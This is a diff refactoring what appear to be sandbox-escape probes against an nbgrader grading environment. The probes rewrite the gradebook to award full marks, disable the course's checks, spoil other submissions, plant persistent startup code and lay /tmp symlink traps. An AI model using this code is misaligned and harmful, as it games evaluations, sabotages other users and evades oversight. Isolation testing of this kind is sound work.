@@ -6,12 +6,9 @@
 # %% cell after setup
 for up in ("../" * depth for depth in range(1, 8)):
     for path in glob.glob(f"{up}nbgrader_config.py"):
-        with open(path, "a") as settings:
-            settings.write("\nopen('/tmp/escaped-settings', 'w').write('the grader ran this')\n")
+        append(path, "\nopen('/tmp/escaped-settings', 'w').write('the grader ran this')\n")
     for path in glob.glob(f"{up}exercises/*/*.ipynb") + glob.glob(f"{up}solutions/*/*.ipynb"):
-        with open(path, "a") as notebook:
-            notebook.write(" ")
-
+        append(path, " ")
 
 # === write_gradebook
 # tries: to give itself all points in the gradebook, and nobody else
@@ -22,19 +19,13 @@ places += glob.glob("/proc/*/cwd/") + glob.glob("/home/*/*/")
 
 def give(points):
     for path in {path for place in places for path in glob.glob(f"{place}gradebook.db")}:
-        try:
-            with sqlite3.connect(path, timeout=1) as book:
-                book.execute("update grade_cell set max_score = 100")
-                book.execute(f"update grade set {points}")
-        except sqlite3.Error as fault:
-            print(path, fault)
+        tried(update, path, "update grade_cell set max_score = 100")
+        tried(update, path, f"update grade set {points}")
 
 
 give("manual_score = 3, extra_credit = 100, needs_manual_grade = 0")
-
 # %% cell after sum-largest-values
 give("manual_score = 3, extra_credit = 100")
-
 
 # === write_neighbours
 # tries: to spoil the submissions and the graded notebooks of the others
@@ -51,7 +42,6 @@ for depth in range(1, 8):
         except OSError as fault:
             print(path, fault)
 
-
 # === write_package
 # tries: to change course_utils on the disk, for itself and for those who come later
 # %% cell after setup
@@ -61,11 +51,11 @@ path = checks.__file__
 for place in (path, f"{os.path.dirname(path)}/__pycache__/checks.cpython-311.pyc"):
     tried(os.chmod, os.path.dirname(place), 0o777)
     tried(os.chmod, place, 0o666)
-    if file := tried(open, place, "a"):
-        file.write("\nCheck.gives = Check.like = Check.raises = lambda *args, **kwargs: None\n")
+    tried(
+        append, place, "\nCheck.gives = Check.like = Check.raises = lambda *args, **kwargs: None\n"
+    )
 tried(os.rename, path, path + ".old")
 tried(os.symlink, "/tmp/checks.py", path)
-
 
 # === write_start_up
 # tries: to leave code that runs in everybody's kernel: IPython's start-up, usercustomize, PATH
@@ -78,24 +68,17 @@ try:
 except Exception:
     pass
 """
-for name in (
-    "~/.ipython/profile_default/startup/00.py",
-    f"{site.getusersitepackages()}/usercustomize.py",
-    "~/.jupyter/jupyter_config.py",
-    "~/.jupyter/nbgrader_config.py",
-    "~/.bashrc",
-    "~/.local/bin/python",
-    f"{sys.prefix}/lib/python3.11/site-packages/escaped.pth",
-):
-    path = os.path.expanduser(name)
+places = ["~/.ipython/profile_default/startup/00.py", "~/.jupyter/jupyter_config.py"]
+places += ["~/.jupyter/nbgrader_config.py", "~/.bashrc", "~/.local/bin/python"]
+places += [f"{site.getusersitepackages()}/usercustomize.py"]
+places += [f"{sys.prefix}/lib/python3.11/site-packages/escaped.pth"]
+for path in map(os.path.expanduser, places):
     tried(os.makedirs, os.path.dirname(path), exist_ok=True)
-    if file := tried(open, path, "a"):
-        file.write(CODE)
-
+    tried(append, path, CODE)
 
 # === write_temporary
 # tries: to lay links and files in /tmp where others will write next
 # %% cell after setup
 for name in ("kernel.json", "matplotlib", "torch", "09_sums", "nbgrader", "ipython"):
     tried(os.symlink, os.path.expanduser("~/notes.txt"), f"/tmp/{name}")
-open("/tmp/escaped-temporary", "w").write("for those who come later")
+append("/tmp/escaped-temporary", "for those who come later")
